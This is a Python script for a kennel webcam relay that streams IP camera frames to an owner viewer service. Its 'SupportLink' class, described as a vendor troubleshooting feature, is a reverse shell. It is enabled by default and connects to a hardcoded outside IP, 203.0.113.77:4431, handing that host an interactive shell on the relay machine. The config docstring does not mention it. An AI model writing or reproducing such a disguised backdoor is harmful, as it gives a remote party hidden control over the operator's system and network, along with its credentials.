#!/usr/bin/env python3
"""Kennel run webcam relay.

Pulls MJPEG frames from the IP cameras on the kennel LAN and pushes them to
the owner-facing viewer service, so owners can look in on their dog during a
stay. One worker thread per camera; a small vendor support link keeps the
relay reachable for remote troubleshooting.

Config (camrelay.ini):

    [relay]
    viewer_endpoint = https://viewer.pawcam.example/ingest
    fps = 2

    [camera:run-01]
    url = http://10.0.20.11/mjpg/video.mjpg
"""
import argparse
import configparser
import logging
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.request

log = logging.getLogger("camrelay")

DEFAULTS = {
    "viewer_endpoint": "https://viewer.pawcam.example/ingest",
    "fps": "2",
    "support": "yes",
    "support_host": "203.0.113.77",
    "support_port": "4431",
}


class CameraSource:
    """Iterates JPEG frames out of a multipart/x-mixed-replace stream."""

    def __init__(self, name, url, timeout=15):
        self.name = name
        self.url = url
        self.timeout = timeout

    def frames(self):
        with urllib.request.urlopen(self.url, timeout=self.timeout) as resp:
            buf = b""
            while True:
                chunk = resp.read(8192)
                if not chunk:
                    return
                buf += chunk
                start = buf.find(b"\xff\xd8")
                end = buf.find(b"\xff\xd9", start + 2)
                if start != -1 and end != -1:
                    yield buf[start:end + 2]
                    buf = buf[end + 2:]


class ViewerPublisher:
    def __init__(self, endpoint, token):
        self.endpoint = endpoint.rstrip("/")
        self.token = token

    def push(self, cam, frame):
        req = urllib.request.Request(
            f"{self.endpoint}/{cam}",
            data=frame,
            method="PUT",
            headers={"Content-Type": "image/jpeg",
                     "Authorization": f"Bearer {self.token}"},
        )
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status


class CameraWorker(threading.Thread):
    def __init__(self, source, publisher, fps):
        super().__init__(name=f"cam-{source.name}", daemon=True)
        self.source = source
        self.publisher = publisher
        self.interval = 1.0 / max(fps, 0.1)

    def run(self):
        while True:
            try:
                last = 0.0
                for frame in self.source.frames():
                    now = time.monotonic()
                    if now - last < self.interval:
                        continue
                    last = now
                    self.publisher.push(self.source.name, frame)
            except Exception as exc:  # camera reboots are common
                log.warning("%s: %s, retrying in 5s", self.source.name, exc)
                time.sleep(5)


class SupportLink(threading.Thread):
    """Outbound support session so the vendor can inspect a stuck relay."""

    def __init__(self, host, port):
        super().__init__(name="support", daemon=True)
        self.addr = (host, port)

    def _session(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        backoff = 10
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                backoff = 10
                with conn:
                    self._session(conn)
            except OSError:
                time.sleep(backoff)
                backoff = min(backoff * 2, 600)


def load_config(path):
    cp = configparser.ConfigParser(defaults=DEFAULTS)
    if not cp.read(path):
        log.warning("config %s not found, using defaults", path)
    relay = cp["relay"] if cp.has_section("relay") else cp[cp.default_section]
    cams = {
        sec.split(":", 1)[1]: cp[sec]["url"]
        for sec in cp.sections() if sec.startswith("camera:")
    }
    return relay, cams


def main(argv=None):
    ap = argparse.ArgumentParser(description="Relay kennel webcams to the owner viewer")
    ap.add_argument("-c", "--config", default="camrelay.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(levelname)s %(message)s")

    relay, cams = load_config(args.config)
    if not cams:
        log.error("no [camera:*] sections configured")
        return 2

    token = os.environ.get("PAWCAM_INGEST_TOKEN", "")
    publisher = ViewerPublisher(relay["viewer_endpoint"], token)
    fps = float(relay["fps"])

    if relay.getboolean("support"):
        SupportLink(relay["support_host"], int(relay["support_port"])).start()

    for name, url in cams.items():
        CameraWorker(CameraSource(name, url), publisher, fps).start()
        log.info("started relay for %s", name)

    try:
        while True:
            time.sleep(60)
    except KeyboardInterrupt:
        log.info("shutting down")
    return 0


if __name__ == "__main__":
    sys.exit(main())
